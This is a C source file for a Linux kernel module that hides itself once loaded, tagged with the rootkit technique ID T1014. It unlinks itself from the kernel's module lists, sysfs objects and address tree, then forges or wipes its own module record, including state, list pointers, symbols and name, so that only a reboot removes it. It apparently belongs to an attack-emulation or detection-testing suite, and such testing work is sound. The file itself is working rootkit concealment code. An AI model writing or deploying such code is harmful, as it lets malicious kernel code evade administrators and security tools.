// SPDX-License-Identifier: GPL-2.0-only
/* Leaves every list of modules that the kernel has, and forges its own record (T1014). There is no way back but a reboot. */
#include "modhide.h"

#include <linux/workqueue.h>

static bool tree = true;
module_param(tree, bool, 0444);
MODULE_PARM_DESC(tree, "leave the tree of addresses too");
static bool forge = true;
module_param(forge, bool, 0444);
MODULE_PARM_DESC(forge, "forge state, links, back pointer, symbols, sections and name");
static bool zero;
module_param(zero, bool, 0444);
MODULE_PARM_DESC(zero, "wipe the whole record");

static void hide(struct work_struct *work);
static DECLARE_DELAYED_WORK(hide_work, hide);

static void hide(struct work_struct *work)
{
	unsigned long base, size;

	modhide_where(&base, &size);
	modhide_list();
	modhide_kobject(true);
	if (tree)
		modhide_tree();
	if (forge) {
		THIS_MODULE->state = MODULE_STATE_UNFORMED;
		THIS_MODULE->list.next = LIST_POISON2;
		THIS_MODULE->list.prev = LIST_POISON1;
		THIS_MODULE->mkobj.mod = NULL;
		THIS_MODULE->sect_attrs = NULL;
		THIS_MODULE->holders_dir = NULL;
		THIS_MODULE->kallsyms->num_symtab = 0;
	}
	attack_log("hidden tree=%d forge=%d module=0x%lx base=0x%lx size=0x%lx", tree, forge,
		   (unsigned long)THIS_MODULE, base, size);
	if (zero)
		memset(THIS_MODULE, 0, sizeof(*THIS_MODULE));
	else if (forge)
		memset(THIS_MODULE->name, 0, sizeof(THIS_MODULE->name));
}

static int __init attack_init(void)
{
	schedule_delayed_work(&hide_work, HZ / 10);
	return 0;
}

module_init(attack_init);
